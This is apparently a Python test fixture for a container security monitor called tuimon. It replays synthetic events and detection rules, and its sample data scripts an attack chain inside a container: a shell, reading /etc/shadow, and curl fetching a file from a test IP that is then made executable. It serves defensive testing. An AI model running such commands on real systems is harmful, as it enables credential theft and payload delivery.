"""An engine without a kernel for the screen's tests: the facade of tuimon.engine over generated batches.

``FakeEngine(rate=...)`` plays a pool of realistic events from a thread; with ``rate=0`` nothing happens until a test
calls ``feed`` and ``alert``, and the clock stands still, so that pictures are the same on every run.
"""

from __future__ import annotations

import dataclasses
import os
import re
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass

import numpy as np

from tests import builders
from tests.builders import (
    BOOT_TO_EPOCH_NS,
    TS_NS,
    batch_of,
    chain,
    connect_event,
    container,
    event_of,
    exec_event,
    fork_event,
    open_event,
    syscall_event,
)
from tuimon.batch import Batch
from tuimon.before import Before, Frozen
from tuimon.capture.source import Counts
from tuimon.events import HOST, Alert, Container, Event, Process
from tuimon.history import History
from tuimon.records import Kind, Slot
from tuimon.revisions import Revision
from tuimon.rules.diagnostics import Diagnostic, RuleFile
from tuimon.rules.filter import Filter, compile_filter, plain_text
from tuimon.rules.loader import ExpressionError, LoadResult, load
from tuimon.rules.matching import Rule
from tuimon.view.health import Health
from tuimon.view.severity import worse
from tuimon.view.snapshot import ContainerRow, Snapshot

WEB = container("3ad7b26ded6d", name="web", image="docker.io/library/nginx:1.27")
DB = container("77c1f0aa9e21", name="db", image="docker.io/library/postgres:16", engine="podman")
SHOP = container(
    "9ac27e01b5d4", name="shop", image="reg.example/shop/api:2.3", engine="containerd", pod_name="shop-7f9c",
    pod_namespace="store",
)  # fmt: skip

BUILTIN_RULES = """\
# Rules that come with tuimon.
- list: shells
  items: [bash, sh, zsh]

- macro: container
  condition: container.id != host

- rule: Shell in a container
  desc: A shell was started inside a container.
  condition: evt.type = execve and container and proc.name in (shells)
  output: Shell in a container (user=%user.name command=%proc.cmdline container=%container.name)
  priority: NOTICE
  tags: [T1059]
"""

LOCAL_RULES = """\
- rule: Read the shadow file
  desc: Somebody reads the password hashes.
  condition: evt.type in (open, openat) and fd.name = "/etc/shadow" and proc.pid > 1
  output: Shadow file read (file=%fd.name command=%proc.cmdline)
  priority: WARNING
"""


def pool(scale: int = 1, hostile: str = "") -> list[Event]:
    """Return a small day in the life of a node; ``hostile`` text goes into comm, argv, path and container name."""
    sshd = chain("systemd", "sshd", "bash", pid=4100)
    nginx = chain("systemd", "conmon", "nginx", pid=4200)
    postgres = chain("systemd", "conmon", "postgres", pid=4300)
    api = chain("systemd", "containerd-shim", "node", pid=4400, args=("server.js",))
    shell = builders.process("sh", args=("-i",), pid=4415, parent=nginx, tty=34816)
    cat = builders.process("cat", args=("/etc/shadow",), pid=4417, parent=shell, tty=34816)
    curl = builders.process("curl", args=("-sO", "http://203.0.113.9/x"), pid=4420, parent=shell)
    events = [
        exec_event("sh", args=("-i",), process=shell, container=WEB),
        open_event("/etc/passwd", process=cat, container=WEB),
        exec_event("cat", args=("/etc/shadow",), process=cat, container=WEB),
        open_event("/etc/shadow", process=cat, container=WEB),
        syscall_event("read", ret=1184, args=(3, 0x1000, 4096), process=cat, container=WEB, given=""),
        connect_event("203.0.113.9", 443, process=curl, container=WEB, ret=-115),
        open_event("/tmp/x", flags=os.O_CREAT | os.O_WRONLY, process=curl, container=WEB, mode=0o644),
        syscall_event(
            "fchmodat", args=(builders.AT_FDCWD, 0x1000, 0o755), given="/tmp/x", process=shell, container=WEB
        ),
        open_event("/proc/1/environ", ret=-13, process=shell, container=WEB),
        open_event("/var/lib/postgresql/data/base/1/1259", flags=os.O_RDWR, process=postgres, container=DB),
        syscall_event("write", ret=8192, args=(9, 0x1000, 8192), process=postgres, container=DB),
        connect_event("10.88.0.7", 5432, process=api, container=SHOP),
        open_event("/app/node_modules/express/index.js", process=api, container=SHOP),
        syscall_event(
            "unlinkat", args=(builders.AT_FDCWD, 0x1000, 0), given="/tmp/cache-7", process=api, container=SHOP
        ),
        fork_event("bash", process=sshd),
        exec_event("ls", args=("-la", "/root"), parent=sshd),
        open_event("/home/jane/.ssh/known_hosts", process=sshd),
        open_event("/root/日本語/Ünïcode.txt", process=sshd),
        syscall_event("read", ret=0, args=(0, 0x1000, 1), process=sshd, slim=True),
        syscall_event("close", args=(3,), process=nginx, container=WEB, slim=True),
    ]
    if hostile:
        bad = builders.process(hostile[:12], args=(hostile,), pid=4666, parent=sshd, exepath=hostile)
        evil = container("badbadbadbad", name=hostile, image=hostile)
        events += [
            open_event("/" + hostile, process=bad, container=evil, cgroup_id=builders.CONTAINER_CGROUP + 66),
            exec_event(hostile[:12], process=bad, container=evil, cgroup_id=builders.CONTAINER_CGROUP + 66),
        ]
    for event in events:
        for one in (event.process, *event.process.ancestors()):
            one.loginuid = 0  # root has a name on every machine
    return events * scale


@dataclass(frozen=True, slots=True)
class FakeOutcome:
    """What became of a rule set that was handed in."""

    accepted: bool
    revision: int
    diagnostics: tuple[Diagnostic, ...]


class FakeFilter:
    """Keeps rows with the text in a path or an argument; ``evt.nr = N`` those of one call."""

    def __init__(self, text: str, engine: FakeEngine) -> None:
        self.text = text
        self._engine = engine

    @staticmethod
    def knows(text: str) -> bool:
        """Whether it is plain text, which is looked for in paths alone here, or a number."""
        return plain_text(text) is not None or re.fullmatch(r"evt\.nr\s*=\s*(\d+)", text) is not None

    def rows(self, batch: Batch) -> np.ndarray:
        if (found := re.fullmatch(r"evt\.nr\s*=\s*(\d+)", self.text)) is not None:
            return np.flatnonzero(batch.head["nr"] == int(found[1]))
        needle = self.text.encode()
        return np.array([row for row in range(len(batch)) if any(needle in s for s in batch.slots(row))], np.intp)


class FakeEngine:
    """The facade over a pool of events.

    Args:
        rate: Events per second played from a thread; 0: only what ``feed`` gives.
        hostile: Text put wherever a monitored process could put text.
        max_bytes: Bound of the history.
        files: Rule files in force.
        start_error: Raised by ``start``.
        batch_size: Events in one drain.
    """

    def __init__(
        self,
        *,
        rate: float = 0,
        hostile: str = "",
        max_bytes: int = 64 * 1024 * 1024,
        files: Sequence[RuleFile] | None = None,
        start_error: Exception | None = None,
        batch_size: int = 0,
    ) -> None:
        self.history = History(max_bytes)
        self.rate = rate
        self.hostile = hostile
        self.watched: list[frozenset[int] | None] = []
        self.everything = False
        self.applied: list[tuple[RuleFile, ...]] = []
        self.revision = 1
        self.failure: BaseException | None = None
        self.live, self.ended, self.lost = True, False, 0
        self.known = 0
        self.notices: tuple[str, ...] = ()
        self.rules: tuple[Rule, ...] = ()
        self.own_health = Health()
        self.now_ns = BOOT_TO_EPOCH_NS + TS_NS
        self.started = self.stopped = False
        self._start_error = start_error
        self._files = tuple(files if files is not None else default_files())
        self._past: tuple[Revision, ...] = ()
        self._alerts: list[Alert] = []
        base = pool(hostile=hostile)
        self.batch, self.tables = batch_of(base)
        self.cgroups = self._cgroups()
        if batch_size:
            # A flood is made of calls that no rule minds: new processes and secrets stay as rare as they are.
            loud = (b"/etc", b"/proc")
            dull = [e for e in base if e.kind is Kind.SYSCALL and not e.slot(Slot.GIVEN).startswith(loud)]
            self.batch, self.tables = batch_of((base + dull * (batch_size // len(dull) + 1))[:batch_size])
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self._began = time.monotonic()
        self.fed = 0

    def _cgroups(self) -> dict[str, tuple[Container, frozenset[int]]]:
        found: dict[str, tuple[Container, set[int]]] = {"host": (HOST, set())}
        for cgroup in np.unique(self.batch.head["cgroup_id"]).tolist():
            owner = self.tables.containers.of_cgroup(cgroup) or HOST
            found.setdefault(owner.id, (owner, set()))[1].add(cgroup)
        return {key: (owner, frozenset(ids)) for key, (owner, ids) in found.items()}

    # What a test does.

    def feed(self, rounds: int = 1) -> None:
        """Play the pool some times; times are spread 1 ms apart."""
        for _ in range(rounds):
            head = self.batch.head.copy()
            n = len(head)
            head["ts_ns"] = TS_NS + (self.fed + np.arange(n)) * 1_000_000
            self._append(dataclasses.replace(self.batch, head=head))

    def _append(self, batch: Batch) -> None:
        self.history.append(dataclasses.replace(batch, first_num=self.fed + 1))
        self.fed += len(batch)

    def alert(
        self, rule: str = "Read the shadow file", priority: str = "Warning", row: int = 3, **more: object
    ) -> Alert:
        """Make an alert about a row of the newest batch."""
        batch = self.history.batches()[-1]
        event = self.event(batch, row)
        values = {
            "num": len(self._alerts) + 1, "time_ns": event.time_ns, "rule": rule, "priority": priority,
            "output": f"{rule} (file=/etc/shadow command=cat /etc/shadow container=web) {self.hostile}",
            "output_fields": {"fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow" + self.hostile, "evt.res": None},  # noqa: E501
            "tags": ("T1003", "mitre_credential_access"), "source": "syscall", "hostname": "node-1",
            "revision": self.revision, "event": event,
        }  # fmt: skip
        made = Alert(**(values | more))  # type: ignore[arg-type]
        self._alerts.append(made)
        return made

    # The facade.

    def start(self) -> None:
        if self._start_error is not None:
            raise self._start_error
        self.started = True
        if self.rate:
            self._began = time.monotonic()
            self._thread = threading.Thread(target=self._run, daemon=True)
            self._thread.start()

    def stop(self) -> None:
        self.stopped = True
        self._stop.set()
        if self._thread is not None and self._thread.is_alive():
            self._thread.join()

    def _run(self) -> None:
        began, played, rounds = time.monotonic(), 0, 0
        while not self._stop.is_set():
            wait = began + (played + len(self.batch)) / self.rate - time.monotonic()
            if wait > 0:
                self._stop.wait(wait)
            head = self.batch.head.copy()
            now = time.time_ns() - BOOT_TO_EPOCH_NS
            head["ts_ns"] = now - np.arange(len(head), 0, -1)
            self._append(dataclasses.replace(self.batch, head=head))
            played += len(head)
            rounds += 1
            if rounds % 50 == 1:
                self.alert()

    def snapshot(self) -> Snapshot:
        uptime = time.monotonic() - self._began if self.rate else 872.0
        return Snapshot(
            node="node-1",
            kernel="6.8.0-45-generic",
            source="live" if self.live else "attack.tmon",
            live=self.live,
            ended=self.ended,
            time_ns=time.time_ns() if self.rate else self.now_ns,
            uptime_s=uptime,
            counts=Counts(seen=self.fed * 9 + self.lost, emitted=self.fed, filtered=self.fed * 8, dropped=self.lost),
            seen_per_s=self.rate * 9 or 18_400.0,
            emitted_per_s=self.rate or 2_100.0,
            engine_load=0.11,
            revision=self.revision,
            rules=2,
            alerts=len(self._alerts),
            alerts_forgotten=0,
            history_events=len(self.history),
            history_bytes=self.history.nbytes,
            history_max_bytes=self.history.max_bytes,
            history_first_time_ns=self.now_ns,
            containers=self._rows(),
            notices=self.notices,
            known=self.known,
        )

    def _rows(self) -> tuple[ContainerRow, ...]:
        rows = []
        for number, (owner, ids) in enumerate(self.cgroups.values()):
            mine = [a for a in self._alerts if a.container_id == owner.id]
            worst: str | None = None
            for alert in mine:
                worst = worse(worst, alert.priority)
            spark = tuple(float((i * (number + 3)) % 17) for i in range(60))
            rows.append(
                ContainerRow(
                    container=owner, cgroup_ids=ids, calls=self.fed * (number + 1), errors=number, dropped=0,
                    calls_per_s=[310.0, 212.0, 1_130.0, 840.0, 96.0][number % 5], spark=spark, alerts=len(mine),
                    worst_priority=worst, ended=owner.ended,
                )
            )  # fmt: skip
        return tuple(rows)

    def alerts_since(self, num: int) -> Sequence[Alert]:
        return self._alerts[num:]

    def before_is_pending(self, alert: Alert) -> bool:
        return False

    def before(self, alert: Alert) -> Frozen | None:
        *early, last = self.history.batches()
        made = Before(
            self.tables.processes.get, self.tables.containers.of_cgroup, lambda: BOOT_TO_EPOCH_NS, self.history.batches
        )
        for batch in early:
            made.add(batch)
        made.alert(alert)
        made.add(last)
        return made.of(alert)

    def event(self, batch: Batch, row: int) -> Event:
        return event_of(batch, row, self.tables)

    @property
    def loaded(self) -> LoadResult:
        return load(self._files)

    def apply_rules(self, files: Sequence[RuleFile]) -> FakeOutcome:
        found = self.check_rules(files)
        if any(d.severity == "error" for d in found):
            return FakeOutcome(False, self.revision, found)
        self._put(tuple(files))
        self.applied.append(self._files)
        return FakeOutcome(True, self.revision, found)

    def _put(self, files: tuple[RuleFile, ...], restores: int | None = None) -> None:
        self._past = self.revisions()
        self._files = files
        self.revision += 1
        self._past = (*self._past, self._revision(restores))

    def _revision(self, restores: int | None = None) -> Revision:
        return Revision(self.revision, self.now_ns, self._files, restores=restores)

    def revisions(self) -> tuple[Revision, ...]:
        return self._past or (self._revision(),)

    def roll_back(self, to: int | None = None) -> FakeOutcome:
        earlier = next(each for each in self.revisions() if each.number == to)
        self._put(earlier.files, earlier.number)
        return FakeOutcome(True, self.revision, ())

    def check_rules(self, files: Sequence[RuleFile]) -> tuple[Diagnostic, ...]:
        """Find the word ``nosuch.field`` and ``priority: BAD``: enough to be wrong at a place."""
        return tuple(
            Diagnostic(
                "LOAD_ERR_COMPILE_CONDITION", "error", f"{found[0]} is not known", file.path, number,
                found.start() + 1, number, found.end() + 1, hint="fd.name",
            )
            for file in files
            for number, line in enumerate(file.text.split("\n"), 1)
            for found in re.finditer(r"nosuch\.field|priority: BAD", line)
        )  # fmt: skip

    def rule_files(self) -> tuple[RuleFile, ...]:
        return self._files

    def process_list(self, *, ended: bool = False) -> list[Process]:
        found: dict[int, Process] = {}
        for one in self.tables.processes.values():
            found.update({each.pid: each for each in (*one.ancestors(), one)})
        return [one for one in found.values() if ended or one.end_ns is None]

    def container_of(self, cgroup_id: int) -> Container | None:
        return self.tables.containers.of_cgroup(cgroup_id)

    def rules_in_force(self) -> tuple[Rule, ...]:
        return self.rules

    def health(self) -> Health:
        return self.own_health

    def prepare(self) -> bool:
        return False

    def filter(self, text: str) -> Filter | FakeFilter:
        if "nosuch" in text:
            at = text.index("nosuch")
            raise ExpressionError("nosuch is not a field", at, 1, at + 1, "did you mean fd.name?")
        if FakeFilter.knows(text):
            return FakeFilter(text, self)
        return compile_filter(text, None, self.event)

    def watch(self, cgroups: frozenset[int] | None, *, everything: bool = False, messages: bool = False) -> None:
        self.watched.append(cgroups)
        self.everything = everything

    def capture(self, calls: frozenset[str]) -> None:
        self.captured = calls

    def error(self) -> BaseException | None:
        return self.failure


def default_files() -> list[RuleFile]:
    """Return one built-in and one user file, neither on disk."""
    return [
        RuleFile("/usr/share/tuimon/rules/tuimon.yaml", BUILTIN_RULES, "builtin"),
        RuleFile("/tmp/tuimon-test/local.yaml", LOCAL_RULES, "user"),
    ]


def fed_engine(rounds: int = 3, **more: object) -> FakeEngine:
    """Return an engine with some history and alerts in four severities."""
    engine = FakeEngine(**more)  # type: ignore[arg-type]
    engine.feed(rounds)
    engine.alert("Terminal shell in container", "Notice", row=0)
    engine.alert("Drop and execute new binary in container", "Critical", row=7)
    for _ in range(3):
        engine.alert("Read the shadow file", "Warning", row=3)
    engine.alert("Contact the API server", "Informational", row=11)
    return engine


Factory = Callable[[], FakeEngine]
